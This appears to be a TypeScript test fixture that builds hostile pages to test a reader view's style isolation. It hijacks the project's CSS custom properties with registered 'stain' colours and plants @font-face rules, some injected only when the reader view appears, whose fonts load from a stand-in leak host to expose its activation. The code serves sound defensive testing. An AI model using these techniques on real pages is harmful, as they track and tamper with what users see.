import { readFileSync } from 'node:fs';
import { leakHost, stain } from './case';
import { hostilePage } from './page';

/** The names of our style sheets' custom properties; they can be read in what we publish. */
export const ownNames: string[] = [
  ...new Set(
    ['tokens', 'reader', 'controls', 'copy-card'].flatMap((name) =>
      [...readFileSync(`assets/${name}.css`, 'utf8').matchAll(/(?<![\w-])--[a-z][\w-]*/g)].map(([property]) => property),
    ),
  ),
];

/**
 * A page that registers every name of ours, by rule and by script: a registration holds in the whole document, closed shadow roots
 * too, and one that does not inherit gives every element below the one that sets it the page's colour.
 * `#probe` shows that it works where the names are known.
 */
export function registeringPage(): string {
  const rules = ownNames.map((name) => `@property ${name} { syntax: "<color>"; inherits: false; initial-value: ${stain}; }`);
  const script = `for (const name of ${JSON.stringify(ownNames)}) try { CSS.registerProperty({ name, syntax: '<color>', inherits: false, initialValue: '${stain}' }); } catch {}
    document.body.insertAdjacentHTML('beforeend', '<div style="--ink: rgb(4, 5, 6)"><i id="probe" style="color: var(--ink)">x</i></div>');`;
  return hostilePage({ script }).replace('</head>', `<style>${rules.join('\n')}</style></head>`);
}

/** Families that our style sheets name. */
const families = [
  ...new Set(
    [...readFileSync('assets/tokens.css', 'utf8').matchAll(/--font-[\w-]+:([^;]+);/g)].flatMap(([, list = '']) =>
      list.split(',').map((family) => family.trim().replace(/^"(.*)"$/, '$1')),
    ),
  ),
];

/** A page with a font of its own under every name of ours: from the beginning, or as soon as it sees the reader view. */
export function lendingPage(when: 'first' | 'late'): string {
  const faces = families.map(
    (family, index) => `@font-face { font-family: "${family}"; src: url(https://${leakHost}/font-${index}); }`,
  );
  const late = `new MutationObserver((_, observer) => {
    if (!document.querySelector('html > [data-bulletin-reader]')) return;
    observer.disconnect();
    const style = document.createElement('style');
    style.textContent = ${JSON.stringify(faces.join('\n'))};
    document.head.append(style);
  }).observe(document.documentElement, { childList: true });`;
  const page = hostilePage({ host: 'template', ...(when === 'late' && { script: late }) });
  return when === 'first' ? page.replace('</head>', () => `<style>${faces.join('\n')}</style></head>`) : page;
}
